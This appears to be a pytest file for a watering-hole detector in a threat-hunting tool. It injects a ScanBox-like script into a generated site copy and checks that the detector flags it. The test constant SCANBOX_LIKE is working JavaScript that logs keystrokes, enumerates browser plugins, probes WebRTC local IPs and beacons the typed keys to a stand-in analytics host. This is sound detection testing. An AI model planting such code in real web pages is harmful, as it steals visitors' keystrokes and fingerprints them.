"""Watering-hole check: a generated site copy with an injected ScanBox-like script."""

from __future__ import annotations

import io
import shutil

import pyarrow as pa
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from tidehunt.case.store import CaseStore
from tidehunt.context import RunContext
from tidehunt.detect.analytics.detector import AnalyticsDetector
from tidehunt.site_scan import scan_site, traits_of

PAGE = """<!doctype html><html><head><title>Port news</title>
<script src="/js/site.js"></script>
<script src="https://cdn.jsdelivr.example/npm/chart.min.js"></script>
<script>window.dataLayer = window.dataLayer || [];</script>
</head><body><form><input name="q"></form>{extra}</body></html>"""
SITE_JS = "function menu(){var m=document.getElementById('m');m.classList.toggle('open');}\n"
#: Written for the test: the shapes ScanBox-style recon code takes (not the real framework).
SCANBOX_LIKE = """
(function(){var c='https://stat.ports-analytics.example/i/';
var ins=document.getElementsByTagName('input');
for(var i=0;i<ins.length;i++){ins[i].addEventListener('keydown',function(e){
 new Image().src=c+'k.php?data='+encodeURIComponent(e.key);});}
var p=[];for(var j=0;j<navigator.plugins.length;j++){p.push(navigator.plugins[j].name);}
var pc=new RTCPeerConnection({iceServers:[{urls:'stun:stun.example.org:3478'}]});
pc.createDataChannel('');pc.onicecandidate=function(ev){};
new Image().src=c+'v.php?m='+encodeURIComponent(p.join(','));})();
"""


def _site(root, injected: bool):
    (root / "js").mkdir(parents=True, exist_ok=True)
    extra = '<script src="https://stat.ports-analytics.example/t.js"></script>' if injected \
        else ""
    for name in ("index.html", "about.html"):
        (root / name).write_text(PAGE.format(extra=extra))
    (root / "js" / "site.js").write_text(SITE_JS + (SCANBOX_LIKE if injected else ""))
    return root


def _hunt(tmp_path, source, baseline=None):
    store = CaseStore(tmp_path / "case", create=True)
    scan_site(source, store, RunContext(), baseline=baseline)
    det = AnalyticsDetector()
    rows = pa.Table.from_batches(list(det.run(store, RunContext()))).to_pylist()
    assert det.stats.failed == []
    return store, [r for r in rows if r["rule_id"] == "th-analytic-0021"]


def test_traits():
    assert traits_of(SCANBOX_LIKE) == ["keylogger", "plugin_enumeration", "webrtc_local_ip",
                                       "beacon_grammar"]
    assert traits_of(SITE_JS) == []


def test_injected_site_is_flagged_and_clean_baseline_is_not(tmp_path):
    clean = _site(tmp_path / "clean", injected=False)
    live = _site(tmp_path / "live", injected=True)
    _, clean_hits = _hunt(tmp_path / "a", clean, baseline=str(clean))
    assert clean_hits == []
    store, hits = _hunt(tmp_path / "b", live, baseline=str(clean))
    by_dst = {h["dst"]: h for h in hits}
    assert by_dst["/js/site.js"]["level"] == "critical"
    assert "keylogger" in by_dst["/js/site.js"]["summary"]
    new = by_dst["https://stat.ports-analytics.example"]
    assert new["level"] == "high" and "new against the baseline" in new["summary"]
    assert "2 page(s)" in new["summary"]
    # the known CDN origin and the inline snippet are not findings
    assert "https://cdn.jsdelivr.example" not in by_dst
    origins = store.sql("SELECT DISTINCT origin FROM site_script WHERE third_party")
    assert sorted(origins.column("origin").to_pylist()) == [
        "https://cdn.jsdelivr.example", "https://stat.ports-analytics.example"]


def test_warc_capture(tmp_path):
    live = _site(tmp_path / "live", injected=True)
    warc = tmp_path / "site.warc.gz"
    with open(warc, "wb") as fh:
        w = WARCWriter(fh, gzip=True)
        for rel, ctype in (("index.html", "text/html"), ("js/site.js",
                                                         "application/javascript")):
            body = (live / rel).read_bytes()
            headers = StatusAndHeaders("200 OK", [("Content-Type", ctype)],
                                       protocol="HTTP/1.1")
            w.write_record(w.create_warc_record(f"https://www.port-news.example/{rel}",
                                                "response", payload=io.BytesIO(body),
                                                http_headers=headers))
    _, hits = _hunt(tmp_path / "c", warc)
    assert any("keylogger" in h["summary"] for h in hits)
    shutil.rmtree(live)


def test_not_a_site_copy_is_a_clear_error(tmp_path):
    bad = tmp_path / "x.warc"
    bad.write_bytes(b"\x00\x01 not a warc")
    import pytest

    from tidehunt.errors import NoUsableInput

    with pytest.raises(NoUsableInput, match="not a folder or a readable WARC"):
        scan_site(bad, CaseStore(tmp_path / "case", create=True), RunContext())
